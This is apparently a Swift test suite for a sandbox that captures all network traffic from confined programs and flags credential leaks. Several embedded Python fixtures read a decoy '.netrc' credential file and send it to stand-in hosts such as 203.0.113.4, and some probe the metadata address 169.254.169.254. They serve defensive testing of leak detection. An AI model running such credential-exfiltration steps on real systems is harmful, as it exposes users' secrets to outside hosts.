import Evidence
import Glibc
import TestSupport
import Testing

@testable import Sandbox
@testable import box_probe

@Suite(
  "Box network", .serialized, .enabled(if: Machine.hasNamespaces, Machine.noNamespaces),
  .enabled(if: Machine.hasPython, Machine.noPython))
struct BoxNetworkTests {
  @Test("brings every address and every port to the sink")
  func everywhere() throws {
    let box = TestBox.python(
      """
      import socket, urllib.request
      print(urllib.request.urlopen("http://name.example.org:8081/path", data=b"body", timeout=5).read())
      for address in ("198.51.100.7", "169.254.169.254", "10.1.2.3"):
        s = socket.create_connection((address, 4444), timeout=5); s.sendall(b"tcp"); s.close()
      s = socket.create_connection(("2001:db8::7", 4445), timeout=5); s.sendall(b"six"); s.close()
      u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
      u.sendto(b"first", ("203.0.113.9", 31337))
      u.sendmsg([b"second"], [], 0, ("203.0.113.10", 31338))
      """)
    let result = try box.run()
    #expect(result.errorText == "")
    #expect(result.lines == ["b'ok'"])
    let exchanges = box.network.stop()
    #expect(exchanges.filter { $0.port == 4444 }.map(\.payload) == ["tcp", "tcp", "tcp"])
    #expect(exchanges.contains { $0.port == 4445 && $0.payload == "six" })
    #expect(exchanges.contains { $0.port == 31337 && $0.payload == "first" && $0.transport == .udp })
    #expect(exchanges.contains { $0.port == 31338 && $0.payload == "second" })
    #expect(exchanges.contains { $0.port == 8081 && $0.payload.hasSuffix("body") })
    #expect(exchanges.contains { $0.port == 53 })
    let asked = result.events.compactMap {
      if case .connect(.tcp, let endpoint) = $0.action { "\(endpoint.address) \(endpoint.port)" } else { nil }
    }
    #expect(asked.contains("169.254.169.254 4444") && asked.contains("2001:db8::7 4445"))
  }

  @Test("leaves programs of the box their own servers")
  func own() throws {
    let box = TestBox.python(
      """
      import socket
      server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen()
      client = socket.create_connection(server.getsockname()); client.sendall(b"own"); client.close()
      print(server.accept()[0].recv(9))
      try: socket.create_connection(("127.0.0.1", 1), timeout=2)
      except OSError as error: print(error.errno)
      """)
    let result = try box.run()
    #expect(result.lines == ["b'own'", "\(ECONNREFUSED)"])
    #expect(box.network.stop().isEmpty)
    let refused = ObservedAction.connect(transport: .tcp, endpoint: .init(address: "127.0.0.1", port: 1))
    #expect(result.events.contains { $0.action == refused })
  }

  @Test(
    "tells of what is sought on the own machine, and refuses it as a real one does", arguments: ["127.0.0.1", "::1"])
  func nobodyListens(address: String) throws {
    // The sink listens for 8080 of every address by then, and still not there.
    let box = TestBox.python(
      """
      import socket
      socket.create_connection(("203.0.113.4", 8080), timeout=5).close()
      for port in (8080, 9050):
        try: socket.create_connection(("\(address)", port), timeout=5); print("reached")
        except OSError as error: print(error.errno)
      """
    ).decoy(".netrc")
    let result = try box.run()
    #expect(result.lines == ["\(ECONNREFUSED)", "\(ECONNREFUSED)"])
    for port in [8080, 9050] as [UInt16] {
      let action = ObservedAction.connect(transport: .tcp, endpoint: .init(address: address, port: port))
      #expect(result.events.contains { $0.action == action })
    }
    #expect(box.network.stop().count == 1)
  }

  @Test(
    "follows what a decoy says through a server of the box's own",
    arguments: [
      ("socket.socket()", "('127.0.0.1', 0)"), ("socket.socket()", "('127.0.0.1', 7070)"),
      ("socket.socket(socket.AF_UNIX)", "'/tmp/server'"),
    ])
  func throughServer(socket: String, address: String) throws {
    let box = TestBox.python(
      """
      import os, socket
      server = \(socket); server.bind(\(address)); server.listen()
      if os.fork() == 0:
        # It closes what it shares with its parent, who has opened nothing.
        where = server.getsockname(); server.close()
        client = \(socket); client.connect(where); client.sendall(open("/home/dev/.netrc", "rb").read()); os._exit(0)
      got = server.accept()[0].recv(99)
      socket.create_connection(("203.0.113.4", 443), timeout=5).sendall(got)
      """
    ).decoy(".netrc")
    let result = try box.run()
    #expect(result.errorText == "")
    let proof = try #require(result.evidence.first { $0.level == .taintedEgress })
    #expect(proof.decoys == [".netrc"])
    #expect(proof.detail.contains("203.0.113.4"))
    #expect(result.evidence.count { $0.level == .taintedEgress } == 1)
  }

  @Test("takes nobody for a thief who asks where a thief asked too, and nobody serves")
  func sharedNothing() throws {
    let result = try TestBox.shell(
      #"""
      python3 -c 'import socket; open("/home/dev/.netrc").read(); socket.socket(1).connect_ex("/run/nscd/socket")'
      python3 -c 'import socket; socket.socket(1).connect_ex("/run/nscd/socket"); socket.create_connection(("203.0.113.7", 443)).close()'
      """#
    ).decoy(".netrc").run()
    #expect(result.errorText == "")
    #expect(result.touched == [".netrc"])
    #expect(!result.has(.taintedEgress))
  }

  @Test("serves a port that a program of the box has taken at another address")
  func taken() throws {
    let box = TestBox.python(
      """
      import socket
      server = socket.socket(); server.bind(("127.0.0.1", 8080)); server.listen()
      s = socket.create_connection(("203.0.113.4", 8080), timeout=5); s.sendall(b"out"); s.close()
      """)
    let result = try box.run()
    #expect(result.errorText == "")
    #expect(box.network.stop().map(\.payload) == ["out"])
  }

  @Test("has no raw sockets, though its user seems to be root")
  func raw() throws {
    var box = TestBox.python(
      """
      import socket
      for family, type, protocol in ((2, 3, 1), (2, 2, 1), (10, 3, 58)):
        try: socket.socket(family, type, protocol); print("made")
        except OSError as error: print(error.errno)
      """)
    box.plan.user = .init(user: 0, group: 0)
    let result = try box.run()
    #expect(!result.text.contains("made"))
  }
}
